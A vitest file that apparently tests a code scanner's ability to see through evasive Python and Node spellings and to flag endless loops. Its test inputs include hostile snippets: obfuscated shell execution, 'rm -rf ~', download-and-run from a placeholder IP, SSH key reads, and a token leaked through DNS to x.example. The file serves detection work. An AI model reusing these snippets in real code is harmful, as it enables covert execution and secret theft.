// Issue 22: how the python and node extractors resolve evasive spellings (modules through other
// modules, namespaces, computed names, folded character codes, the input's own functions) into
// the facts the rules read. Table-driven: runtime, code, keys that must be among the facts.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadParsers } from '../../../src/engine/parse/index.js';
import type { Runtime } from '../../../src/engine/types.js';
import { keys } from './code-helpers.js';

beforeAll(async () => {
  await loadParsers();
});

const has = (got: readonly string[], want: string): boolean =>
  got.some((g) => g === want || g.startsWith(`${want} `));

const table: readonly [string, Runtime, string, readonly string[]][] = [
  // python: modules and namespaces
  [
    'module via another module',
    'python',
    'import shutil\nshutil.os.system("rm -rf ~")',
    ['exec:rm -rf ~ via=python'],
  ],
  ['sys.modules by name', 'python', 'import sys\nsys.modules["os"].system("id")', ['exec:id via=python']],
  ['vars(module)[name]', 'python', 'import os\nvars(os)["system"]("id")', ['exec:id via=python']],
  ['module __dict__', 'python', 'import os\nos.__dict__["system"]("id")', ['exec:id via=python']],
  [
    '__builtins__ exec',
    'python',
    '__builtins__.exec("import os\\nos.system(\'id\')")',
    ['exec:id via=python'],
  ],
  [
    'globals() lookup',
    'python',
    'globals()["__builtins__"].eval("__import__(\'os\').system(\'id\')")',
    ['exec:id via=python'],
  ],
  // python: folding
  ['chr join', 'python', '__import__(chr(111) + chr(115)).system("id")', ['exec:id via=python']],
  ['reversed slice', 'python', '__import__("so"[::-1]).system("id")', ['exec:id via=python']],
  [
    'bytes.fromhex',
    'python',
    'exec(bytes.fromhex("696d706f7274206f733b6f732e73797374656d2827696427292e"[:-2]))',
    ['flow:decoded->exec:exec'],
  ],
  [
    'rot13',
    'python',
    'import codecs\nexec(codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "rot13"))',
    ['exec:id via=python', 'flow:decoded->exec:exec'],
  ],
  [
    'generator of chr',
    'python',
    'exec("".join(chr(c) for c in [112, 97, 115, 115]))',
    ['flow:decoded->exec:exec'],
  ],
  [
    'map over a literal list',
    'python',
    'import os\nlist(map(os.system, ["id", "uptime"]))',
    ['exec:id via=python', 'exec:uptime via=python'],
  ],
  [
    'for over a literal list',
    'python',
    'import os\nfor c in ["id", "uptime"]:\n    os.system(c)',
    ['exec:uptime via=python'],
  ],
  [
    'own wrapper function',
    'python',
    'import os\ndef run(c):\n    os.system(c)\nrun("uptime")',
    ['exec:uptime via=python'],
  ],
  [
    'own decoder function',
    'python',
    'def d(s):\n    return "".join(chr(ord(c) - 1) for c in s)\nexec(d("qbtt"))',
    ['flow:decoded->exec:exec'],
  ],
  // python: dynamic callees, files, sockets
  [
    'computed getattr fed a download',
    'python',
    'import os, requests\ngetattr(os, requests.get("http://203.0.113.9/n").text)("x")',
    ['flow:net:203.0.113.9->exec:a call resolved at run time'],
  ],
  [
    'download written then run',
    'python',
    'import urllib.request, subprocess\nurllib.request.urlretrieve("http://203.0.113.9/a", "/tmp/a")\nsubprocess.call(["/tmp/a"])',
    ['flow:net:203.0.113.9->exec:a'],
  ],
  [
    'download written then exec(open())',
    'python',
    'import requests\nopen("s.py", "w").write(requests.get("http://203.0.113.9/s").text)\nexec(open("s.py").read())',
    ['flow:net:203.0.113.9->exec:exec'],
  ],
  [
    'socket data is downloaded content',
    'python',
    'import pickle, socket\ns = socket.create_connection(("203.0.113.9", 9))\npickle.loads(s.recv(9))',
    ['flow:net:203.0.113.9->exec:pickle'],
  ],
  [
    'ctypes libc.system',
    'python',
    'import ctypes\nctypes.CDLL("libc.so.6").system(b"id")',
    ['exec:id via=python'],
  ],
  [
    'DNS sink is the fixed zone',
    'python',
    'import socket, os\nsocket.gethostbyname(os.environ["TOKEN"] + ".x.example")',
    ['flow:env:TOKEN->dns:x.example'],
  ],
  [
    'glob pattern read',
    'python',
    'import glob\nfor p in glob.glob("/home/agent/.ssh/id_*"):\n    open(p).read()',
    ['file:read:/home/agent/.ssh/id_*'],
  ],
  [
    'host fingerprint sources',
    'python',
    'import getpass, requests\nrequests.post("https://x.example", data=getpass.getuser())',
    ['flow:output:whoami->net:x.example'],
  ],
  // node
  [
    'getBuiltinModule',
    'node',
    'process.getBuiltinModule("child_process").execSync("id")',
    ['exec:id via=node'],
  ],
  ['import().then', 'node', 'import("child_process").then((cp) => cp.execSync("id"))', ['exec:id via=node']],
  [
    'module.constructor._load',
    'node',
    'module.constructor._load("child_process").execSync("id")',
    ['exec:id via=node'],
  ],
  [
    'computed destructuring key',
    'node',
    'const { [`exec${"Sync"}`]: run } = require("child_process");\nrun("id")',
    ['exec:id via=node'],
  ],
  [
    'fn.call',
    'node',
    'const cp = require("child_process");\ncp.execSync.call(null, "id")',
    ['exec:id via=node'],
  ],
  [
    'Reflect.apply',
    'node',
    'const cp = require("child_process");\nReflect.apply(cp.execSync, cp, ["id"])',
    ['exec:id via=node'],
  ],
  [
    'forEach(execSync)',
    'node',
    'const cp = require("child_process");\n["id"].forEach(cp.execSync)',
    ['exec:id via=node'],
  ],
  [
    'Function returning a global',
    'node',
    'Function("return process")().mainModule.require("child_process").execSync("id")',
    ['exec:id via=node'],
  ],
  [
    'constructor.constructor',
    'node',
    'this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id")',
    ['exec:id via=node'],
  ],
  [
    'process.binding spawn',
    'node',
    'process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] })',
    ['exec:id via=sh'],
  ],
  ['fromCharCode eval', 'node', 'eval(String.fromCharCode(49))', ['flow:decoded->exec:eval']],
  [
    'split/reverse/join eval',
    'node',
    'eval("1+1".split("").reverse().join(""))',
    ['flow:decoded->exec:eval'],
  ],
  ['packer-style IIFE eval', 'node', "eval(function (p) { return p; }('1'))", ['flow:decoded->exec:eval']],
  [
    'globalThis[key] fed a download',
    'node',
    'const r = await fetch("https://203.0.113.9/f");\nglobalThis[await r.text()]("x")',
    ['flow:net:203.0.113.9->exec:a call resolved at run time'],
  ],
  [
    'own arrow wrapper',
    'node',
    'const cp = require("child_process");\nconst run = (c) => cp.execSync(c);\nrun("uptime")',
    ['exec:uptime via=node'],
  ],
];

describe('python and node: evasive spellings resolve to facts (issue 22)', () => {
  it.each(table)('%s', (_name, runtime, code, want) => {
    const got = keys(code, runtime);
    for (const w of want) expect(has(got, w), `${w} in ${JSON.stringify(got)}`).toBe(true);
  });
});

const loops: readonly [string, Runtime, string, boolean][] = [
  ['while True without exit', 'python', 'while True:\n    n += 1', true],
  ['reassigned condition', 'python', 'x = 3\nwhile x:\n    x -= 1', false],
  [
    'parameter condition',
    'python',
    'def g(a, b):\n    while b:\n        a, b = b, a % b\n    return a\ng(4, 2)',
    false,
  ],
  ['generator', 'python', 'def f():\n    while True:\n        yield 1', false],
  ['for(;;) without exit', 'node', 'for (;;) { n++; }', true],
  ['updated condition', 'node', 'let n = 3;\nwhile (n) n--;', false],
  ['generator loop', 'node', 'function* g() { for (;;) yield 1; }', false],
];

describe('runaway loops: only loops with no exit, no bound and no sleep', () => {
  it.each(loops)('%s', (_name, runtime, code, runaway) => {
    const got = keys(code, runtime).filter((k) => k.startsWith('loop:'));
    const endless = got.some((k) => !/exits|sleeps|forks/.test(k));
    expect(endless, JSON.stringify(got)).toBe(runaway);
  });
});
